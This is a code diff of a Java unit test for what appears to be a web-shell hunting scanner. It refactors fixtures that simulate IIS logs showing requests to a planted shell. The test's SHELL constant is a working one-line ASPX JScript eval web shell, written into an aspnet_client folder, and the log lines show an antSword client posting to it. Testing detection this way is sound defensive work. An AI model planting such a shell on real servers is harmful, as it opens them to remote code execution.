@@ -26,7 +26,6 @@ import org.junit.jupiter.api.io.TempDir;
 class RequestedFilesInScanTest {
 
     private static final String SHELL = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"t\"],\"unsafe\");%>";
-    private static final String LOG = "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log";
 
     @TempDir
     Path root;
@@ -83,16 +82,9 @@ class RequestedFilesInScanTest {
     private void drive() throws IOException {
         new TestDrive(root).write("inetpub/wwwroot/aspnet_client/system_web/x.aspx", SHELL)
                 .write("inetpub/wwwroot/aspnet_client/system_web/other.aspx.txt", "not served as a script")
-                .write(LOG, String.join("\n",
-                        "#Software: Microsoft Internet Information Services 10.0",
-                        "#Version: 1.0",
-                        "#Date: 2021-03-03 00:00:00",
-                        "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent)"
-                                + " cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
-                        "2021-03-03 06:00:00 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 10.1.2.3 Mozilla/5.0 - 200 0 0 5",
+                .iisLog("2021-03-03 06:00:00 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 10.1.2.3 Mozilla/5.0 - 200 0 0 5",
                         "2021-03-03 06:03:47 10.0.0.5 POST /aspnet_client/system_web/x.aspx - 443 - 192.0.2.7 antSword/v2.1 - 200 0 0 5",
-                        "2021-03-03 06:04:12 10.0.0.5 GET /ASPNET_CLIENT/system_web/X.aspx - 443 - 198.51.100.9 curl/7.79.1 - 404 0 2 1",
-                        ""));
+                        "2021-03-03 06:04:12 10.0.0.5 GET /ASPNET_CLIENT/system_web/X.aspx - 443 - 198.51.100.9 curl/7.79.1 - 404 0 2 1");
     }
 
     private ServerResult scan(HuntOptions options) {
